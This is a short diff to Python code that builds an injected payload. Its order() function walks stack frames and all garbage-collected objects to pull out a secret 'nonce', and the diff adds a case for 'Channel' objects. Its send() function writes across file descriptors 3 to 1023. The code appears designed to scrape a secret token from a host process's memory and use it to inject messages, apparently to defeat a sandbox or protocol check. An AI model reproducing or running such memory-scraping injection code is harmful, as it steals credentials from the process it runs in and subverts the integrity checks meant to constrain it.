@@ -16,7 +16,7 @@ ORDER = (
     f"""
 RECORD = {RECORD!r}
 """
-    + """
+    """
 def order():
     frame = sys._getframe()
     while frame is not None:
@@ -28,6 +28,8 @@ def order():
     for value in gc.get_objects():
         if type(value) is dict and isinstance(value.get("nonce"), str):
             return value
+        if type(value).__name__ == "Channel" and isinstance(getattr(value, "nonce", 0), str):
+            return {"nonce": value.nonce}
     return {"nonce": "0"}
 def send(data):
     for number in range(3, 1024):
